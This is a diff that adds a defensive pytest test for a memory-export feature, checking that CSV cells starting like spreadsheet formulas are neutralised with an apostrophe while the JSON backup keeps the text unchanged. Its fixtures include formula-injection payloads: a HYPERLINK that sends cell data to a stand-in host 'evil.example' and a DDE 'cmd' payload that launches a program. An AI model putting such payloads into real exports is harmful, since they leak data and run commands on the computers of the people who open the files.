@@ -236,6 +236,30 @@ def test_csv_export_lists_current_memories(rich_mind, agent):
     assert next(row for row in rows if row["key"] == "db_password")["content"] == REDACTED
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_start_like_a_formula_are_neutralised(agent, alice_mind, remember,
+                                                             start):
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
+    remember(category="note", key=f"{start}cmd|' /C calc'!A0", content=formula,
+             tags=[f"{start}sum(a1:a9)"])
+    remember(category="note", key="plain", content="Harmless - but with a dash")
+    response = agent.get("/memory/mind-export?format=csv")
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    evil = next(row for row in rows if row["key"] != "plain")
+    assert evil["content"] == "'" + formula
+    assert evil["key"] == f"'{start}cmd|' /C calc'!A0"
+    # Tags are stored trimmed: a tab or carriage return never starts one.
+    assert evil["tags"] == (f"'{start}sum(a1:a9)" if start.strip() else "sum(a1:a9)")
+    plain = next(row for row in rows if row["key"] == "plain")
+    assert plain["content"] == "Harmless - but with a dash"
+    # No cell of the file starts like a formula any more.
+    assert not [cell for row in rows for cell in row.values()
+                if cell.startswith(export.FORMULA_PREFIXES)]
+    # The JSON export (the backup) keeps the text as stored.
+    document = export_document(agent, alice_mind)
+    assert formula in [item["content"] for item in document["memories"]]
+
+
 def test_export_of_another_mind_is_404(rich_mind, bob):
     response = jwt_client(bob).get(f"/memory/mind-export?mind={rich_mind.id}")
     assert response.status_code == 404
